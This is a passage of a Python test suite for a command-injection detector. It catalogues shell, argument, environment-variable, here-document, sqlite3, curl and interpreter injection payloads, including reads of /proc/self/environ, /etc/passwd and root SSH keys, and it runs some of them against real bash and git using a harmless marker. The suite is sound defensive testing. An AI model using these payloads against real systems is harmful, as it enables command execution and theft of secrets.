    # What the docstring says of Lambda's Linux: sh splits words at blank, tab and newline only.
    out = subprocess.run(["sh", "-c", "printf '%s|' a\rb a\fb"], capture_output=True).stdout
    assert out == b"a\rb|a\fb|"


# ---------------------------------------------------------------- issue 11: tools that interpret arguments

INTERPRETING_ATTACKS = [
    (["convert", "text:/proc/self/environ", "out.png"], "text:/proc/self/environ", "'text:'"),
    (["convert", "MSL:/tmp/x.msl", "out.png"], "MSL:/tmp/x.msl", "'msl:'"),
    (["magick", "|id", "out.png"], "|id", "'|'"),
    (["convert", "in.png", "label:@/etc/passwd"], "label:@/etc/passwd", "'label:@'"),
    (["mogrify", "@/tmp/list"], "@/tmp/list", "'@'"),
    (["convert", "ephemeral:/var/task/app.py", "out.png"], "ephemeral:/var/task/app.py", "'ephemeral:'"),
    (["gs", "-sDEVICE=pdfwrite", "-sOutputFile=%pipe%id", "in.ps"], "%pipe%id", "'%pipe%'"),
    (["gs", "-o", "%pipe%id", "in.ps"], "%pipe%id", "'%pipe%'"),
    (["gs", "-dNOSAFER", "in.ps"], "-dNOSAFER", "-dNOSAFER"),
    (["pandoc", "in.md", "--filter=/tmp/x"], "--filter=/tmp/x", "--filter"),
    (["pandoc", "in.md", "--lua-f=/tmp/x"], "--lua-f=/tmp/x", "--lua-filter"),
    (["pandoc", "in.md", "--pdf-engine=/tmp/x", "-o", "o.pdf"], "--pdf-engine=/tmp/x", "--pdf-engine"),
    (["wkhtmltopdf", "--enable-local-file-access", "a.html", "o.pdf"], "--enable-local-file-access",
     "--enable-local-file-access"),
    (["wkhtmltopdf", "--run-script", "x", "a.html", "o.pdf"], "--run-script", "--run-script"),
]


@pytest.mark.parametrize(("vector", "payload", "what"), INTERPRETING_ATTACKS)
def test_interpreting_tools_attacks(vector: list[str], payload: str, what: str) -> None:
    finding = argv(vector, payload)
    assert finding is not None and finding.rule == "cmdi.option", finding
    assert what in finding.message
    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(Command(vector))


INTERPRETING_BENIGN = [
    (["convert", "photo.jpg", "out.png"], "photo.jpg"),
    (["convert", "/tmp/u/text:x.png", "out.png"], "text:x.png"),  # inside a path, not a coder
    (["convert", "in.png", "-resize", "50%", "out.png"], "50%"),
    (["gs", "-dBATCH", "in.ps"], "-dBATCH"),
    (["gs", "-dCompatibilityLevel=1.4", "in.ps"], "-dCompatibilityLevel=1.4"),  # no clusters in gs
    (["ffmpeg", "-filter_complex", "x"], "-filter_complex"),
    (["pandoc", "in.md", "--toc"], "--toc"),
    (["convert", "label:hello", "out.png"], "hello"),  # the code's own coder, plain text from the input
]


@pytest.mark.parametrize(("vector", "payload"), INTERPRETING_BENIGN)
def test_interpreting_tools_benign(vector: list[str], payload: str) -> None:
    assert argv(vector, payload) is None


def test_shlex_reads_a_bounded_number_of_values() -> None:
    import time

    values = tuple(f"'a' -b {index} " + "'x' " * 250 for index in range(1000))
    started = time.perf_counter()
    forms = ci.split_forms_of(values)
    assert time.perf_counter() - started < 2
    assert len(forms) == len(values) + ci.MAX_SHLEX_VALUES


@pytest.mark.parametrize(("vector", "payload", "attack"), [
    (["perl", "-e", 'print "{}"'], '@{[ system "id" ]}', True),
    (["perl", "-e", 'print "{}"'], "${\\ `id`}", True),
    (["perl", "-e", "print '{}'"], '@{[ system "id" ]}', False),  # single quotes interpolate nothing
    (["python3", "-c", "print(f'{}')"], "{__import__('os').system('id')}", True),
    (["python3", "-c", "print(rf'{}')"], "{os}", True),
    (["python3", "-c", "print('{}')"], "{__import__(\"os\").system(\"id\")}", False),  # no f prefix
    (["python3", "-c", "print(f'{}')"], "plain words", False),
])
def test_interpolation_inside_strings_is_code(vector: list[str], payload: str, attack: bool) -> None:
    finding = argv(fill(vector, payload), payload)
    assert (finding is not None and finding.rule == "cmdi.code") if attack else finding is None


@pytest.mark.parametrize(("vector", "payload", "attack"), [
    (["perl", "-ne", "print if /{}/", "f"], "x/; system 'id'; /", True),
    (["perl", "-lne", "print if $_ eq '{}'", "f"], "x'; system 'id'; '", True),
    (["sed", "-ne", "s/{}/x/p", "f"], "a/x/e;s/b", True),
    (["python3", "-Bc", "print('{}')"], "x'); __import__('os').system('id'); ('", True),
    (["perl", "-ne", "print if $_ eq '{}'", "f"], "plain text", False),
    (["sed", "-ne", "s/{}/x/p", "f"], "plain text", False),
])
def test_program_text_after_a_cluster_of_options(vector: list[str], payload: str, attack: bool) -> None:
    finding = argv(fill(vector, payload), payload)
    assert (finding is not None and finding.rule == "cmdi.code") if attack else finding is None


# ---------------------------------------------------------------- issue 11: a shell program handed on by a wrapper

# A vector whose program hands a script to a shell (``env``, ``timeout``, ``nice``, ``xargs``, ``find -exec``):
# the script is judged like ``sh -c SCRIPT``; an input that is the whole script chooses the program.
HANDED_ATTACKS = [
    (["bash", "-c", "{}"], "id", "cmdi.program"),
    (["bash", "-c", "{}"], "cat /proc/self/environ", "cmdi.program"),
    (["sh", "-c", "echo {}"], "x; id", "cmdi.shell-syntax"),
    (["sh", "-c", "echo " + "{}"], "$(id)", "cmdi.shell-syntax"),
    (["env", "sh", "-c", "echo {}"], "x; id", "cmdi.shell-syntax"),
    (["env", "-u", "HOME", "A=1", "sh", "-c", "echo {}"], "x | sh", "cmdi.shell-syntax"),
    (["timeout", "-s", "KILL", "5", "bash", "-c", "echo {}"], "x;id", "cmdi.shell-syntax"),
    (["nice", "-n", "5", "sh", "-c", "ls {}"], "$(id)", "cmdi.shell-syntax"),
    (["xargs", "sh", "-c", "{}"], "id", "cmdi.program"),
    (["xargs", "-I", "{}", "sh", "-c", "echo {} QQ"], "x; id", "cmdi.shell-syntax"),
    (["xargs", "-0", "-I", "%", "sh", "-c", "echo % {}"], "`id`", "cmdi.shell-syntax"),
    (["find", ".", "-exec", "sh", "-c", "echo {} \\;"], "x;id", "cmdi.shell-syntax"),
    (["find", "/tmp", "-name", "*.txt", "-execdir", "bash", "-c", "wc -l {}", ";"], "x && id", "cmdi.shell-syntax"),
    (["timeout", "5", "sh", "-c", "{} /tmp/x"], "printenv", "cmdi.program"),
]


@pytest.mark.parametrize(("vector", "payload", "rule"), HANDED_ATTACKS)
def test_a_script_handed_on_by_a_wrapper_is_judged(vector: list[str], payload: str, rule: str) -> None:
    command = Command(fill(vector, payload))
    finding = argv(command.argv, payload)
    assert finding is not None and finding.rule == rule, (command, finding)
    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(command)


HANDED_BENIGN = [
    (["sh", "-c", "echo {}"], "hello world"),
    (["sh", "-c", "echo '{}'"], "x; id $(id)"),
    (["env", "sh", "-c", "echo \"$1\"", "sh", "{}"], "x; id"),  # a positional parameter
    (["xargs", "-I", "{}", "sh", "-c", "echo \"$1\"", "sh", "{}"], "plain"),
    (["find", "/tmp", "-name", "{}", "-exec", "sh", "-c", "wc -l \"$1\"", "sh", "{{}}", ";"], "*.txt"),
    (["timeout", "5", "sh", "-c", "grep -c {} /tmp/f"], "error"),
    (["nice", "-n", "5", "echo", "{}"], "x; id"),  # no shell
]


@pytest.mark.parametrize(("vector", "payload"), HANDED_BENIGN)
def test_a_script_handed_on_by_a_wrapper_benign(vector: list[str], payload: str) -> None:
    assert argv(fill(vector, payload), payload) is None


@pytest.mark.parametrize(("vector", "script"), [
    (["env", "A=1", "sh", "-c", "s"], "s"),
    (["xargs", "-I", "{}", "-P", "4", "sh", "-c", "s"], "s"),
    (["timeout", "-k", "1", "5", "nice", "-n", "3", "bash", "-ec", "s"], "s"),
    (["find", ".", "-type", "f", "-exec", "sh", "-c", "s", "sh", "{}", "+"], "s"),
    (["find", ".", "-exec", "cat", "{}", ";"], None),
    (["xargs", "-I", "{}", "cat", "{}"], None),
    (["env", "sh", "/tmp/script.sh"], None),
    (["env"], None),
])
def test_handed_script(vector: list[str], script: str | None) -> None:
    assert ci.handed_script(vector) == script


# ---------------------------------------------------------------- issue 11: a script a shell reads twice

# eval and sh -c read their arguments after the outer shell removed its quotes: what an input
# leaves after quote removal is judged in the second reading.
REREAD_ATTACKS = [
    ("eval echo {}", "\\;id", "command separator"),
    ("eval echo {}", "';'id", "command separator"),
    ("eval echo {}", '"|"sh', "pipe"),
    ("eval echo {}", "\\$\\(id\\)", "command substitution"),
    ("eval echo {}", "$'\\x3b'id", "$'...' escapes"),
    ("sh -c echo\\ {}", "\\;id", "command separator"),
    ("timeout 5 sh -c \"echo \"{}", "\\;id", "command separator"),
]


@pytest.mark.parametrize(("template", "payload", "reason"), REREAD_ATTACKS)
def test_what_a_second_reading_gets_is_judged(template: str, payload: str, reason: str) -> None:
    finding = shell(template, payload)
    assert finding is not None and finding.rule == "cmdi.shell-syntax", (template, payload)
    assert reason in finding.message


REREAD_BENIGN = [
    ('eval "echo {}"', "\\;id"),  # in double quotes the backslash stays: eval reads \;
    ("sh -c 'echo {}'", "\\;id"),
    ("eval echo {}", "hello"),
    ("eval echo {}", "'hello world'"),  # quotes that keep a blank: eval gets two plain words
    ("echo {}", "$'\\x3b'id"),  # read once: $'\x3b' is a literal ;
    ("echo $'{}'", "\\x3b"),
]


@pytest.mark.parametrize(("template", "payload"), REREAD_BENIGN)
def test_what_a_second_reading_gets_benign(template: str, payload: str) -> None:
    assert shell(template, payload) is None


@pytest.mark.parametrize(("template", "payload", "attack"), [
    ("eval echo {}", "\\;id", True), ("eval echo {}", "';'id", True), ("eval echo {}", "$'\\x3b'id", True),
    ('eval "echo {}"', "\\;id", False), ("sh -c 'echo {}'", "\\;id", False), ("echo {}", "$'\\x3b'id", False),
])
def test_second_reading_rows_match_bash(template: str, payload: str, attack: bool, tmp_path) -> None:
    """The rows above as bash runs them: the attack rows run ``id`` (a marker here), the benign ones do not."""
    marker = tmp_path / "ran"
    payload = payload.replace("id", f"touch {marker}")
    subprocess.run(["bash", "-c", template.format(payload)], capture_output=True, timeout=10)
    assert marker.exists() is attack


# ---------------------------------------------------------------- issue 11: shell forms, re-checked

SHELL_FORMS_RECHECKED = [
    # tilde expansion: ~user, ~+ ($PWD), ~- ($OLDPWD), after = and : in assignments
    ("cat {}", "~+/app.py", "tilde"),
    ("cat {}", "~-/x", "tilde"),
    ("cat {}", "~root/.ssh/id_rsa", "tilde"),
    ("HOME_DIR={} cmd", "~root", "tilde"),
    # $@, $*, ${name[@]}, positional parameters
    ("sh -c 'echo x' {}", "$@", "parameter expansion"),
    ('echo "{}"', "$*", "parameter expansion"),
    ("echo {}", "${PATH[@]}", "parameter expansion"),
    ("echo {}", "$1", "parameter expansion"),
    # unterminated quotes the input opens
    ("echo {}", "'abc", "leaves a quote open"),
    ("echo {} end", 'a"b', "leaves a quote open"),
    ("echo {}", "$'abc", "leaves a quote open"),
    # $, ` and \ inside double quotes
    ('echo "{}"', "$HOME", "parameter expansion"),
    ('echo "{}"', "$(id)", "command substitution"),
    ('echo "{}" x', "a\\", "escapes the character after it"),
    ('echo "{}"', '\\"; id; "', "breaks out of a quoted string"),
    # quotes that split one word into several
    ('echo a"{}"d', 'b" "c', "splits a quoted word"),
    ("cp '{}' /tmp/out", "a' '/var/task/app.py", "splits a quoted word"),
    # here-strings, here-documents and process substitution
    ("cat {}", "<<<x", "redirection"),
    ("cat {}", "x <<< y", "redirection"),
    ("cat {}", "<<EOF", "redirection"),
    ("diff {} /tmp/b", "<(cat /proc/self/environ)", "redirection"),
    ("tee {}", ">(sh)", "redirection"),
    # ANSI-C quoting the input brings: $'\x3b' is a literal ; read once, a separator read twice
    ("eval echo {}", "$'\\x3b'id", "escapes"),
    ("echo $'{}'", "x'; id #", "command separator"),
    # brace expansion
    ("echo {}", "{a,b}", "brace"),
    ("echo {}", "{1..9}", "brace"),
    ("cp /tmp/{} /tmp/out", "{x,/var/task/app.py}", "brace"),
]


@pytest.mark.parametrize(("template", "payload", "reason"), SHELL_FORMS_RECHECKED)
def test_shell_forms_rechecked_attacks(template: str, payload: str, reason: str) -> None:
    finding = shell(template, payload)
    assert finding is not None and finding.rule == "cmdi.shell-syntax", (template, payload, finding)
    assert reason in finding.message


SHELL_FORMS_RECHECKED_BENIGN = [
    ("git commit {}", "--message=\"it's done\""),  # the input's own quotes hold its apostrophe
    ("echo {}", "\"it's done\""),
    ('echo "{}"', "it's done"),
    ("echo '{}'", "$HOME and $(id)"),  # $ inside the code's single quotes
    ("echo {}", "'$HOME'"),  # $ inside the input's own single quotes
    ('echo "{}"', "a\\$b"),  # an escaped $ in double quotes is a letter
    ("echo {}", "\\$HOME"),
    ("echo {}", 'a"b c"d'),  # quotes inside one word keep it one word
    ("echo a{}d", '"b c"'),
    ("cat x{}", "~"),  # a tilde inside a word is a letter
    ("echo {}", "user~1"),
    ("echo 'a{}'", "{b,c}"),  # braces inside quotes
    ("echo {}", "'{a,b}'"),
    ("echo $'{}'", "\\x3b"),  # C escapes inside the code's own $'...': a literal ;
    ("echo {}", "$'\\x3b'id"),  # read once: the word ;id
    ("printf %s {}", "x<<<y"[0]),
    ("cat <<< {}", "hello"),  # the here-string's word is the code's
]


@pytest.mark.parametrize(("template", "payload"), SHELL_FORMS_RECHECKED_BENIGN)
def test_shell_forms_rechecked_benign(template: str, payload: str) -> None:
    assert shell(template, payload) is None


@pytest.mark.parametrize(("template", "payload", "printed"), [
    ("printf '%s|' {}", "\"it's done\"", "it's done|"),
    ("printf '%s|' {}", 'a"b c"d', "ab cd|"),
    ("printf '%s|' {}", "'$HOME'", "$HOME|"),
    ("printf '%s|' {}", "$'\\x3b'id", ";id|"),
    ("printf '%s|' 'a{}'", "{b,c}", "a{b,c}|"),
])
def test_shell_forms_benign_rows_print_one_literal_word(template: str, payload: str, printed: str) -> None:
    """The benign rows as bash reads them: one word, the input's text after quote removal, nothing run."""
    out = subprocess.run(["bash", "-c", template.format(payload)], capture_output=True, text=True, timeout=10)
    assert out.stdout == printed


# ---------------------------------------------------------------- issue 11: platform (Lambda's Linux)

PLATFORM = [
    # (template, payload, attack): where POSIX sh on Linux and another platform disagree, Linux decides
    ("echo {}", "x\rid", False),  # \r is a letter in sh (cmd.exe and some readers split there)
    ("echo {}", "x\fid", False),  # so is a form feed
    ("echo {}", "x\vid", False),
    ("echo {}", "x\r\nid", True),  # the newline separates
    ("echo {}", "C:\\Windows\\system32", False),  # no drive letters: \W and \s escape letters
    ("echo {} x", "C:\\", True),  # a trailing backslash escapes the blank after it
    ("echo {}", "C:/Windows", False),
    ("{} -la", "ENV", True),  # the input is the program whatever its case
]


@pytest.mark.parametrize(("template", "payload", "attack"), PLATFORM)
def test_platform_differences_follow_linux(template: str, payload: str, attack: bool) -> None:
    assert (shell(template, payload) is not None) is attack


def test_program_names_and_options_are_case_sensitive_as_on_linux() -> None:
    # Linux file names are case-sensitive: "Curl" is not curl and "ENV" does not run its argument.
    assert argv(["Curl", "-o/tmp/x"], "-o/tmp/x") is None
    assert argv(["curl", "-o/tmp/x"], "-o/tmp/x").rule == "cmdi.option"
    assert argv(["ENV", "sh", "-c", "echo x; id"], "x; id") is None
    assert argv(["env", "sh", "-c", "echo x; id"], "x; id").rule == "cmdi.shell-syntax"


def test_a_backslash_in_a_drive_path_is_an_escape_in_sh() -> None:
    out = subprocess.run(["sh", "-c", "printf '%s|' C:\\Windows\\system32"], capture_output=True, text=True)
    assert out.stdout == "C:Windowssystem32|"


# ---------------------------------------------------------------- issue 11: what a child builds from its stdin

def stdin_judge(vector, data: str, value: str):
    command = Command([vector], shell=True, stdin=data) if isinstance(vector, str) else Command(vector, stdin=data)
    return ci.detect(command, Inputs([Input("body.q", value)]), {})


# (the command, the text written to its stdin with {} where the input goes, the input, expected rule)
STDIN_ATTACKS = [
    (["xargs", "-I", "{}", "sh", "-c", "echo {}"], "a\n{}\n", "x; id", "cmdi.shell-syntax"),
    (["xargs", "-I{}", "sh", "-c", "ls {}"], "{}", "$(id)", "cmdi.shell-syntax"),
    (["xargs", "--replace=@", "bash", "-c", "echo @"], "{}", "`id`", "cmdi.shell-syntax"),
    (["xargs", "-i", "sh", "-c", "echo {}"], "{}", "a && id", "cmdi.shell-syntax"),
    (["xargs", "-0", "-I", "%", "sh", "-c", "cat %"], "a\x00{}\x00", "x | sh", "cmdi.shell-syntax"),
    (["timeout", "5", "xargs", "-I", "{}", "sh", "-c", "echo {}"], "{}", "x; id", "cmdi.shell-syntax"),
    (["xargs", "curl", "-s"], "{}\n", "http://a -o /tmp/x", "cmdi.option"),
    (["xargs", "-0", "curl", "-s"], "http://a\x00{}\x00", "-o/tmp/x", "cmdi.option"),
    (["xargs", "-d", "\\n", "tar", "cf", "/tmp/o.tar"], "{}\n", "--to-command=sh", "cmdi.option"),
    (["sh"], "echo {}\n", "x; id", "cmdi.shell-syntax"),
    (["bash", "-s", "arg"], "ls {}\n", "$(id)", "cmdi.shell-syntax"),
    (["python3"], "print('{}')\n", "x'); __import__('os').system('id'); ('", "cmdi.code"),
    (["perl", "-"], "print '{}';\n", "x'; system 'id'; '", "cmdi.code"),
    ("xargs -I% sh -c 'ls %'", "{}", "$(id)", "cmdi.shell-syntax"),
    ("cat | xargs -I% sh -c 'ls %'", "{}", "$(id)", "cmdi.shell-syntax"),
]


@pytest.mark.parametrize(("vector", "data", "payload", "rule"), STDIN_ATTACKS, ids=str)
def test_what_a_child_builds_from_its_stdin_is_judged(vector, data: str, payload: str, rule: str) -> None:
    finding = stdin_judge(vector, data.replace("{}", payload), payload)
    assert finding is not None and finding.rule == rule, finding


STDIN_BENIGN = [
    (["xargs", "-I", "{}", "sh", "-c", "echo \"$1\"", "sh", "{}"], "{}", "x; id"),  # a positional parameter
    (["xargs", "sh", "-c", "echo \"$@\"", "sh"], "{}", "x; id"),  # items appended: parameters again
    (["xargs", "-I", "{}", "sh", "-c", "echo {}"], "{}\n", "hello"),
    (["xargs", "echo"], "{}\n", "x; id -o /tmp/x"),  # echo runs nothing
    (["xargs", "curl", "-s"], "{}\n", "https://example.com/a"),
    (["sh"], "echo '{}'\n", "x; id"),  # quoted by the script
    (["sh", "/tmp/script.sh"], "{}", "x; id"),  # the script is a file: stdin is its data
    (["sh", "-c", "cat"], "{}", "x; id"),
    (["cat"], "{}", "x; id"),
    (["python3", "/var/task/tool.py"], "{}", "x'); __import__('os')"),
    (["python3"], "print('{}')\n", "it is fine"),
]


@pytest.mark.parametrize(("vector", "data", "payload"), STDIN_BENIGN, ids=str)
def test_what_a_child_builds_from_its_stdin_benign(vector, data: str, payload: str) -> None:
    assert stdin_judge(vector, data.replace("{}", payload), payload) is None


def test_xargs_lines_judged_are_bounded() -> None:
    import time

    data = "x; id\n" * 100_000
    started = time.perf_counter()
    commands = ci.stdin_commands(Command(["xargs", "-I", "{}", "sh", "-c", "echo {}"]), data, ("x; id",))
    assert len(commands) == ci.MAX_STDIN_COMMANDS
    assert time.perf_counter() - started < 1


# ---------------------------------------------------------------- issue 11: here-documents

HERE_DOCUMENT_ATTACKS = [
    ("cat <<EOF\n{}\nEOF", "'$(id)'", "command substitution"),  # quotes are letters in the body: $( runs
    ("cat <<EOF\n{}\nEOF", '"`id`"', "command substitution"),
    ("cat <<EOF > /tmp/out\n{}\nEOF", "$AWS_SECRET_ACCESS_KEY", "parameter expansion"),
    ("cat <<EOF\n{}\nEOF", "x\nEOF\nid", "breaks out of a quoted string"),  # the input ends the body early
    ("cat <<'EOF'\n{}\nEOF", "x\nEOF\nid", "breaks out of a quoted string"),
    ("cat <<-EOF\n\t{}\n\tEOF", "x\n\tEOF\nid", "breaks out of a quoted string"),
    ("cat <<EOF\nhead\nEOF\necho {}", "x; id", "command separator"),  # after the body: commands again
    ("cat <<A <<B\n{}\nA\nB-body\nB", "$(id)", "command substitution"),
]


@pytest.mark.parametrize(("template", "payload", "reason"), HERE_DOCUMENT_ATTACKS)
def test_here_document_attacks(template: str, payload: str, reason: str) -> None:
    finding = shell(template, payload)
    assert finding is not None and finding.rule == "cmdi.shell-syntax", (template, payload, finding)
    assert reason in finding.message


HERE_DOCUMENT_BENIGN = [
    ("cat <<EOF\n{}\nEOF", "hello; world | x & y"),  # operators are letters in the body
    ("cat <<EOF\n{}\nEOF", "it's done"),
    ("cat <<EOF\n{}\nEOF\necho end", 'say "hi" (twice)'),
    ("cat <<'EOF'\n{}\nEOF", "$(id) `id` $HOME"),  # a quoted delimiter: nothing expands
    ("cat <<\"EOF\" > /tmp/out\n{}\nEOF", "${IFS}"),
    ("cat <<EOF\n{}\nEOF", "report"),  # a whole body line is no program
    ("cat <<EOF\nhead\nEOF\necho '{}'", "x; id"),
]


@pytest.mark.parametrize(("template", "payload"), HERE_DOCUMENT_BENIGN)
def test_here_document_benign(template: str, payload: str) -> None:
    assert shell(template, payload) is None


@pytest.mark.parametrize(("template", "payload", "attack"), [
    ("cat <<EOF\n{}\nEOF", "'$(id)'", True),
    ("cat <<EOF\n{}\nEOF", "x\nEOF\nid", True),
    ("cat <<'EOF'\n{}\nEOF", "$(id)", False),
    ("cat <<EOF\n{}\nEOF", "it's; id | id", False),
])
def test_here_document_rows_match_bash(template: str, payload: str, attack: bool, tmp_path) -> None:
    marker = tmp_path / "ran"
    payload = payload.replace("id", f"touch {marker}")
    subprocess.run(["bash", "-c", template.format(payload)], capture_output=True, timeout=10)
    assert marker.exists() is attack


def test_here_document_reading_is_bounded() -> None:
    import time

    script = "cat <<E\nx\nE\n" * 5000 + "echo {}"
    started = time.perf_counter()
    assert shell(script, "x; id") is not None
    assert shell("cat <<E <<F <<G " * 3000 + "\n{}", "$(id)") is not None
    assert time.perf_counter() - started < 2


# ---------------------------------------------------------------- issue 11: an input that names an environment variable

ENVIRONMENT_ATTACKS = [
    ("{} ls", "LD_PRELOAD=/tmp/x.so", "LD_PRELOAD"),
    ("env {} git fetch", "GIT_SSH_COMMAND=id", "GIT_SSH_COMMAND"),
    ("A=1 {} man ls", "PAGER=id", "PAGER"),
    ("true; {} bash /var/task/run.sh", "BASH_ENV=/tmp/x", "BASH_ENV"),
    ("echo $({} git log)", "GIT_PAGER=id", "GIT_PAGER"),
    ("A={} less /tmp/f", "x LESSOPEN=/tmp/x.sh", "LESSOPEN"),  # a blank, then a second assignment the input starts
]


@pytest.mark.parametrize(("template", "payload", "name"), ENVIRONMENT_ATTACKS)
def test_an_input_that_names_an_environment_variable(template: str, payload: str, name: str) -> None:
    finding = shell(template, payload)
    assert finding is not None and finding.rule == "cmdi.environment", finding
    assert name in finding.message


@pytest.mark.parametrize(("vector", "payload"), [
    (["env", "{}", "git", "fetch"], "GIT_SSH_COMMAND=id"),
    (["env", "-u", "HOME", "{}", "ls"], "LD_PRELOAD=/tmp/x.so"),
    (["timeout", "5", "env", "{}", "sh", "/var/task/run.sh"], "BASH_ENV=/tmp/x"),
])
def test_an_input_that_names_an_environment_variable_in_a_vector(vector: list[str], payload: str) -> None:
    finding = argv(fill(vector, payload), payload)
    assert finding is not None and finding.rule == "cmdi.environment", finding
    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(Command(fill(vector, payload)))


@pytest.mark.parametrize(("template", "payload"), [
    ("LANG={} ls", "fr_FR.UTF-8"),  # the value of the code's own variable
    ("LANG={} ls", "a=b"),
    ("echo {}", "A=b"),  # an argument, not an assignment
    ("ls {}", "--color=auto"),
    ("cmd 2>&1 {}", "A=b"),
    (["env", "LANG={}", "ls"], "fr_FR=x"),
    (["env", "LANG=C", "printf", "%s", "{}"], "A=b"),
])
def test_an_input_in_a_variables_value_or_an_argument_is_benign(template, payload: str) -> None:
    if isinstance(template, list):
        assert argv(fill(template, payload), payload) is None
    else:
        assert shell(template, payload) is None


def test_an_environment_variable_an_input_names_runs_a_command(tmp_path) -> None:
    """The effect behind the rule, with a real git: GIT_SSH_COMMAND runs whatever it names."""
    marker = tmp_path / "ran"
    subprocess.run(["env", f"GIT_SSH_COMMAND=touch {marker}; false", "git", "ls-remote", "ssh://h/x"],
                   capture_output=True, timeout=20)
    assert marker.exists()


# ---------------------------------------------------------------- issue 11: positional parameters parsed again

POSITIONAL_ATTACKS = [
    (["sh", "-c", 'eval "$1"', "sh", "{}"], "echo x; id", "cmdi.shell-syntax"),
    (["sh", "-c", 'eval "$1"', "sh", "{}"], "id", "cmdi.program"),
    (["bash", "-c", 'eval "echo $1"', "sh", "{}"], "x; id", "cmdi.shell-syntax"),
    (["sh", "-c", 'bash -c "$1"', "sh", "{}"], "x; id", "cmdi.shell-syntax"),
    (["sh", "-c", 'eval "$@"', "sh", "{}"], "ls; id", "cmdi.shell-syntax"),
    (["env", "sh", "-c", 'eval "echo ${1}"', "sh", "{}"], "x; id", "cmdi.shell-syntax"),
    (["sh", "-c", 'eval "echo \\"$1\\""', "sh", "{}"], 'x"; id; "', "cmdi.shell-syntax"),
]


@pytest.mark.parametrize(("vector", "payload", "rule"), POSITIONAL_ATTACKS)
def test_a_positional_parameter_that_eval_parses_is_judged(vector: list[str], payload: str, rule: str) -> None:
    finding = argv(fill(vector, payload), payload)
    assert finding is not None and finding.rule == rule, finding


@pytest.mark.parametrize(("vector", "payload"), [
    (["sh", "-c", 'echo "$1"', "sh", "{}"], "x; id"),  # expanded once, never parsed
    (["sh", "-c", "echo $1", "sh", "{}"], "x; id"),
    (["sh", "-c", "eval 'echo $1'", "sh", "{}"], "x; id"),  # eval expands it: still never parsed
    (["sh", "-c", 'eval "echo \\"$1\\""', "sh", "{}"], "hello world; ok"),
    (["sh", "-c", 'eval "$1"', "sh", "ls", "{}"], "x; id"),  # the input is not the parameter eval reads
])
def test_a_positional_parameter_expanded_once_is_benign(vector: list[str], payload: str) -> None:
    assert argv(fill(vector, payload), payload) is None


def test_positional_rows_match_bash(tmp_path) -> None:
    marker = tmp_path / "ran"
    attack = f"x; touch {marker}"
    subprocess.run(["sh", "-c", 'eval "echo $1"', "sh", attack], capture_output=True, timeout=10)
    assert marker.exists()
    marker.unlink()
    subprocess.run(["sh", "-c", "eval 'echo $1'", "sh", attack], capture_output=True, timeout=10)
    assert not marker.exists()


# ---------------------------------------------------------------- issue 11: operands that run or read (sqlite3, curl)

@pytest.mark.parametrize(("vector", "payload", "what"), [
    (["sqlite3", "/tmp/x.db", "{}"], ".shell id", "dot-command"),
    (["sqlite3", "/tmp/x.db", "select 1", "{}"], ".system id", "dot-command"),
    (["sqlite3", "/tmp/x.db", "{}"], ".load /tmp/evil", "dot-command"),
    (["sqlite3", "-cmd", "{}", "/tmp/x.db"], ".shell id", "dot-command"),
    (["sqlite3", "--", "/tmp/x.db", "{}"], ".shell id", "dot-command"),
    (["sqlite3", "/tmp/x.db", "-init", "/tmp/x"], "-init", "-init"),
    (["curl", "-s", "{}"], "file:///proc/self/environ", "'file:'"),
    (["curl", "-s", "{}"], "FILE:/proc/self/environ", "'file:'"),
    (["curl", "-s", "{}"], "{file,x}:///proc/self/environ", "'{'"),
    (["curl", "-s", "--", "{}"], "file:///etc/passwd", "'file:'"),
])
def test_operands_that_run_or_read(vector: list[str], payload: str, what: str) -> None:
    command = Command(fill(vector, payload))
    finding = argv(command.argv, payload)
    assert finding is not None and finding.rule == "cmdi.option", finding
    assert what in finding.message
    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(command)


@pytest.mark.parametrize(("vector", "payload"), [
    (["sqlite3", "{}", "select 1"], ".hidden.db"),  # the database's name (file_access judges it)
    (["sqlite3", "/tmp/x.db", "select '{}'"], ".shell id"),  # inside the SQL text
    (["sqlite3", "/tmp/x.db", "{}"], "select count(*) from t"),
    (["curl", "-s", "https://example.com/{}"], "file:x"),
    (["curl", "-s", "{}"], "https://example.com/a"),
])
def test_operands_that_run_or_read_benign(vector: list[str], payload: str) -> None:
    assert argv(fill(vector, payload), payload) is None


def test_sqlite3_runs_a_dot_command_operand(tmp_path) -> None:
    """The effect behind the sqlite3 rows, with the real CLI."""
    marker = tmp_path / "ran"
    subprocess.run(["sqlite3", ":memory:", f".shell touch {marker}"], capture_output=True, timeout=20)
    assert marker.exists()


# ---------------------------------------------------------------- issue 11: more programs that hand on a script

@pytest.mark.parametrize(("vector", "payload", "rule"), [
    (["busybox", "sh", "-c", "echo {}"], "x; id", "cmdi.shell-syntax"),
    (["busybox", "ash", "-c", "ls {}"], "$(id)", "cmdi.shell-syntax"),
    (["flock", "/tmp/lock", "-c", "echo {}"], "x; id", "cmdi.shell-syntax"),
    (["flock", "--command=echo {}", "/tmp/lock"], "x && id", "cmdi.shell-syntax"),
    (["su", "-c", "echo {}", "nobody"], "x; id", "cmdi.shell-syntax"),
    (["runuser", "-u", "nobody", "-c", "echo {}"], "`id`", "cmdi.shell-syntax"),
    (["script", "-qc", "echo {}", "/dev/null"], "x | sh", "cmdi.shell-syntax"),
    (["node", "-e", "console.log('{}')"], "x'); require('child_process').execSync('id'); ('", "cmdi.code"),
    (["node", "-p", "`{}`"], "${process.env.AWS_SECRET_ACCESS_KEY}", "cmdi.code"),
    (["node18", "--eval", "console.log({})"], "process.env", "cmdi.code"),
    (["ruby", "-e", "puts '{}'"], "x'; system('id'); '", "cmdi.code"),
    (["ruby", "-e", 'puts "{}"'], "#{`id`}", "cmdi.code"),
    (["php", "-r", "echo '{}';"], "x'; system('id'); '", "cmdi.code"),
    (["php8.2", "-r", 'echo "{}";'], "{${system('id')}}", "cmdi.code"),
])
def test_more_programs_that_hand_on_a_script(vector: list[str], payload: str, rule: str) -> None:
    command = Command(fill(vector, payload))
    finding = argv(command.argv, payload)
    assert finding is not None and finding.rule == rule, finding
    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(command)


@pytest.mark.parametrize(("vector", "payload"), [
    (["busybox", "sh", "-c", "echo '{}'"], "x; id"),
    (["flock", "/tmp/lock", "-c", "echo {}"], "hello"),
    (["su", "-c", "echo \"$0\"", "nobody"], "x; id"),  # no input in the command
    (["node", "-e", "console.log('{}')"], "it is fine (really)"),
